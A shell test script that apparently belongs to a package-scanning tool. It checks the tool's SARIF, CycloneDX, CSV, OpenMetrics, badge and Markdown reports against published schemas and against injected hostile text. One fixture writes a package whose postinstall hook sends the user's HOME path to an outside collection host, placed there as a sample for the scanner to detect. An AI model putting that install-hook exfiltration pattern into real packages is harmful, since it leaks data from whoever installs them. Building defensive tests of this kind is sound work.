# Formats of reports for programs and forges: against the schemas that their makers publish, by parsers and consumers that others wrote; and hostile
# texts, in reports and in a product that is scanned here, which stay text in every format that there is.
. tests/tap.sh
cache=${PROBITY_TEST_CACHE:-$scratch}/formats
schemas=$cache/schemas
mkdir -p "$schemas"
export DOTNET_SYSTEM_GLOBALIZATION_INVARIANT=1
fetch() { # FOLDER PACKAGE@VERSION: a package of npm, unpacked once
  [[ -d $cache/$1/package ]] && return
  local file
  file=$(cd "$cache" && timeout 300 npm pack --silent "$2" 2>"$scratch/npm.log" | tail -n 1) && [[ -n $file ]] &&
    mkdir -p "$cache/$1.new" && tar -C "$cache/$1.new" -xzf "$cache/$file" && mv "$cache/$1.new" "$cache/$1" && rm -f "$cache/$file"
}
if fetch sarif @microsoft/jest-sarif@1.0.0-beta.0; then cp "$cache/sarif/package/lib/schemas/sarif-2.1.0-rtm.5.json" "$schemas/sarif.json"; fi
if fetch cyclonedx @cyclonedx/cyclonedx-library@10.3.0; then
  mkdir -p "$schemas/cyclonedx" && cp "$cache"/cyclonedx/package/res/schema/{bom-1.6,spdx,jsf-0.82}.SNAPSHOT.schema.json "$schemas/cyclonedx/"
fi
for made in sarif.json cyclonedx; do [[ -e $schemas/$made ]] || skip "the schema of $made" "no registry: $(head -n 1 "$scratch/npm.log")"; done
hostile() { /usr/bin/python3 "$here/tests/reports/make_hostile.py" "$@"; }
render() { run "$PROBITY" report -f "$1" "$2" "${@:3}"; } # FORMAT REPORT [OPTION...]

# --- a product with findings, one without
mkdir -p "$scratch/small" "$scratch/quiet"
printf '{"name":"small","version":"1.0.1","scripts":{"postinstall":"node index.js"}}\n' >"$scratch/small/package.json"
printf "require('https').get('http://collect.vendor-host.net/v1?' + process.env.HOME);\n" >"$scratch/small/index.js"
echo "nothing" >"$scratch/quiet/notes.txt"
small=$scratch/small.json
scan "$scratch/small" && printf '%s\n' "$out" >"$small"
scan "$scratch/quiet" && printf '%s\n' "$out" >"$scratch/quiet.json"
n=$(out=$(<"$small") && get 'len(r["findings"])')
ok "there are findings" test "$n" -gt 1

# --- hostile texts
hostile reports "$small" "$scratch/hostile"
hostile broken "$small" "$scratch/broken"
hostile product "$scratch/hostile.tar"
scan "$scratch/hostile.tar"
printf '%s\n' "$out" >"$scratch/product.json"
ok "a hostile product has findings" test "$(get 'len(r["findings"])')" -gt 20
canonical=$(/usr/bin/python3 -c 'import sys; sys.path.insert(0, sys.argv[1]); sys.dont_write_bytecode = True
import hostile_texts; print(*(sys.argv[2] + "/" + family + ".json" for family in hostile_texts.CANONICAL))' "$here/tests/reports" "$scratch/hostile")
ok "hostile reports follow the schema" /usr/bin/python3 "$here/tests/validate-report.py" $canonical
check_formats() { timeout 900 /usr/bin/python3 "$here/tests/reports/check_formats.py" "$1" "$schemas" "${@:2}"; }
relay < <(check_formats "$PROBITY" "$small" "$scratch/quiet.json" "$scratch/product.json" "$scratch"/hostile/*.json 2>&1)
for bad in "$scratch"/broken/*.json; do
  render csv "$bad"
  is "no report, $(basename "$bad"): refused, and nothing written" "$rc $(wc -c <<<"$out") $(grep -c . <<<"$err")" "2 1 1"
  is "... and the message is plain text" "$(LC_ALL=C grep -c '[^ -~]' <<<"$err")" 0
done

# --- these checks can fail: formats that escape nothing
mkdir -p "$scratch/raw"
printf '#!/bin/sh\nshift\nexec "%s" report --templates "%s" "$@"\n' "$PROBITY" "$scratch/raw" >"$scratch/raw-probity" && chmod +x "$scratch/raw-probity"
raw() { # NAME BODY
  printf 'return { title = "t", extension = "t", type = "text/plain", takes = "report", render = function(report, out)\n%s\nend }\n' "$2" >"$scratch/raw/$1.lua"
}
raw csv 'out("says,key,remediation,waived,excerpt,path,product\r\n") for _, f in ipairs(report.findings) do out("\"", f.says, "\",,,,,,\r\n") end'
raw markdown 'for _, f in ipairs(report.findings) do out("- ", f.says, "\n") end'
raw badge 'out("<svg xmlns=\"http://www.w3.org/2000/svg\"><title>", report.product.name, "</title></svg>")'
raw openmetrics 'out("# TYPE probity_x gauge\nprobity_x{product=\"", report.product.name, "\"} 1\n# EOF\n")'
raw new 'out(report.product.name, report.findings[1].says)'
unsafe=$(timeout 300 /usr/bin/python3 "$here/tests/reports/check_formats.py" "$scratch/raw-probity" "$schemas" --only csv,markdown,badge,openmetrics,new "$scratch/hostile/"{formulas,markdown,quotes,markup,control}.json 2>&1)
for case in csv:formulas markdown:markdown badge:markup openmetrics:quotes new:control; do
  like "a format that escapes nothing is noticed: $case" "$unsafe" "not ok 1 - ${case%:*}: ${case#*:}.json"
done

# --- CSV
render csv "$scratch/quiet.json"
is "csv without a finding: the names of the columns" "$rc $(wc -l <<<"$out")" "0 1"
render csv "$small"
is "csv: one row a finding" "$(($(wc -l <<<"$out") - 1))" "$n"
is "csv: as a spreadsheet's reader sees it" "$(/usr/bin/python3 -c 'import csv, sys
rows = list(csv.DictReader(sys.stdin)); print(len(rows), rows[0]["severity"] != "", rows[0]["product"], rows[0]["decision"] != "")' <<<"$out")" "$n True small True"

# --- SARIF
sarif() { out=$("$PROBITY" report -f sarif "$1") && get "$2"; }
print='sorted(x["partialFingerprints"]["primaryLocationLineHash"] for x in r["runs"][0]["results"])'
prints=$(sarif "$small" "$print")
is "sarif: each result has a fingerprint of its own" "$(sarif "$small" "len(set($print))")" "$n"
tar -C "$scratch" -cf "$scratch/small.tar" small
scan "$scratch/small.tar" && printf '%s\n' "$out" >"$scratch/packed.json"
is "sarif: packed in another way, the fingerprints stay" "$(sarif "$scratch/packed.json" "$print")" "$prints"
is "sarif: a container holds what lies in it" "$(sarif "$scratch/packed.json" 'any(a.get("parentIndex") == 0 for a in r["runs"][0]["artifacts"])')" true
sed -i '1s/^/\n/' "$scratch/small/index.js"
scan "$scratch/small" && printf '%s\n' "$out" >"$scratch/later.json"
is "sarif: in the next version what is about the same stays" "$(out="[$prints,$(sarif "$scratch/later.json" "$print")]" && get 'len(set(r[0]) & set(r[1])) > 0')" true
is "sarif: what was not examined is told" "$(sarif "$small" 'len(r["runs"][0]["invocations"][0]["toolConfigurationNotifications"]) > 3')" true
is "sarif: no finding, no result" "$(sarif "$scratch/quiet.json" '[r["runs"][0]["results"], len(r["runs"][0]["tool"]["driver"]["rules"])]')" '[[], 0]'
# What a text of its own is written around: nobody's name may pass for the place of the results.
/usr/bin/python3 -c 'import json, sys
r = json.load(open(sys.argv[1]))
for at, name in enumerate(("\"results\":[]", "@@results@@")):
    r["product"].update(name=name, version=name)
    json.dump(r, open(f"{sys.argv[2]}{at}.json", "w"))' "$small" "$scratch/place"
for at in 0 1; do is "sarif: a product with the name of a place in it, $at" "$(sarif "$scratch/place$at.json" 'len(r["runs"][0]["results"])')" "$n"; done
is "sarif: nobody waived: no suppressions" "$(sarif "$small" 'any("suppressions" in x for x in r["runs"][0]["results"])')" false
/usr/bin/python3 - "$small" "$scratch/waived.json" <<'E'
import json, sys
r = json.load(open(sys.argv[1]))
f = r["findings"][0]
f["waived"] = "known, until 2027-01-01"
r["waivers"] = [{"document": "w.json", "document_sha256": "", "check": f["check"], "key": f["key"], "sha256": "", "reason": "known", "expires": "2027-01-01",
                 "owner": "Ann", "applied": True, "why": ""}]
json.dump(r, open(sys.argv[2], "w"))
E
is "sarif: a waiver is a suppression, with its owner; of the others it is said that they are not" \
  "$(sarif "$scratch/waived.json" '[[(s["status"], s["properties"]["owner"]) for s in x["suppressions"]] for x in r["runs"][0]["results"]][:2]')" \
  '[[["accepted", "Ann"]], []]'
validator=$cache/multitool/package/Sarif.Multitool
if fetch multitool @microsoft/sarif-multitool-linux@5.7.0 && chmod +x "$validator" && timeout 60 "$validator" version >/dev/null 2>&1; then
  for r in small packed waived product quiet hostile/mixed hostile/urls hostile/markdown; do
    "$PROBITY" report -f sarif -o "$scratch/one.sarif" "$scratch/$r.json"
    said=$(timeout 120 "$validator" validate "$scratch/one.sarif" --rule-kind 'Sarif;Ghas' --level 'Error;Warning' --log ForceOverwrite -o "$scratch/one.out" 2>&1)
    is "sarif, $r: Microsoft's validator, with GitHub's rules, has no error" "$(grep -E ': error ' <<<"$said" | head -n 3)" ""
    like "... and it has looked" "$said" "1 files scanned"
  done
else
  skip "Microsoft's validator" "does not run here: $(head -n 1 "$scratch/npm.log")"
fi

# --- CycloneDX
bom() { out=$("$PROBITY" report -f cyclonedx "$1") && get "$2"; }
serial=$(bom "$small" 'r["serialNumber"]')
like "cyclonedx: a serial number" "$serial" '^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$'
is "cyclonedx: ... of the report" "$(bom "$small" 'r["serialNumber"]')" "$serial"
ok "cyclonedx: another report, another one" test "$(bom "$scratch/quiet.json" 'r["serialNumber"]')" != "$serial"
is "cyclonedx: two attestations, by whom is named" "$(bom "$small" '[a["assessor"] for a in r["declarations"]["attestations"]]')" \
  '["assessor:probity", "assessor:probity"]'

# --- OpenMetrics
for r in small quiet product hostile/quotes hostile/long; do
  render openmetrics "$scratch/$r.json"
  if command -v promtool >/dev/null; then
    is "openmetrics, $r: promtool has nothing to say" "$(promtool check metrics <<<"$out" 2>&1)" ""
  else
    skip "openmetrics, $r" "no promtool"
  fi
done
number() { # REPORT CONFIDENCE DECISION: the same with these
  /usr/bin/python3 -c 'import json, sys
r = json.load(open(sys.argv[1])); r["score"].update(confidence_permille=int(sys.argv[2]), decision=sys.argv[3]); print(json.dumps(r))' "$@"
}
number "$small" 100 not-rated >"$scratch/unrated.json"
number "$small" 100 reject >"$scratch/rejected.json"
render openmetrics "$scratch/unrated.json"
is "openmetrics: without a rating there is no trust" \
  "$(grep -cE '^probity_(trust|floor)_ratio' <<<"$out") $(grep -E '^probity_rated' <<<"$out" | grep -c ' 0$')" "0 1"
render markdown "$scratch/unrated.json"
like "markdown: ... but these words" "$out" "\*\*Trust\*\* \| NOT RATED"

# --- badge
render badge "$scratch/unrated.json"
like "badge: not rated" "$out" ">NOT RATED</text>"
render badge "$scratch/rejected.json"
like "badge: rejected without a number" "$out" ">REJECT, NOT RATED</text>"
render badge "$small"
like "badge: decision and range" "$out" "[A-Z]+ [0-9]+ \[[0-9]+\.\.[0-9]+\]</text>"
if command -v rsvg-convert >/dev/null; then
  for r in small unrated hostile/markup hostile/control; do
    "$PROBITY" report -f badge -o "$scratch/b.svg" "$scratch/$r.json"
    ok "badge, $r: a picture" rsvg-convert -o "$scratch/b.png" "$scratch/b.svg"
  done
else
  skip "badge as a picture" "no rsvg-convert"
fi

# --- Markdown
render markdown "$small" --lang fr
like "markdown in French" "$out" "Ce qui parle contre"
for lang in en fr; do
  render markdown "$small" --lang $lang
  is "markdown, $lang: no key and no gap stayed in the words" "$(grep -cE '\{[a-z_]+\}|\bmd\.' <<<"$out")" 0
done
all=$("$PROBITY" report -v -f markdown "$scratch/product.json")
is "markdown: each finding, with -v" "$(grep -c '^  - check ' <<<"$all")" "$(out=$(<"$scratch/product.json") && get 'len(r["findings"])')"

# --- opinion
"$PROBITY" pack key new -W -s "$scratch/me.key" -p "$scratch/me.pub" >/dev/null
"$PROBITY" opinion export "$small" --key "$scratch/me.key" --folder "$scratch/kept" -o "$scratch/opinion.json"
render opinion "$small"
is "opinion: what \`opinion export\` signs" "$(/usr/bin/python3 -c 'import base64, json, sys
signed = json.loads(base64.b64decode(json.load(open(sys.argv[1]))["payload"])); own = json.load(sys.stdin)
signed.pop("assessor"); print(own.pop("assessor") == "", "opinion export" in own.pop("unsigned"), own == signed)' "$scratch/opinion.json" <<<"$out")" \
  "True True True"
done_testing
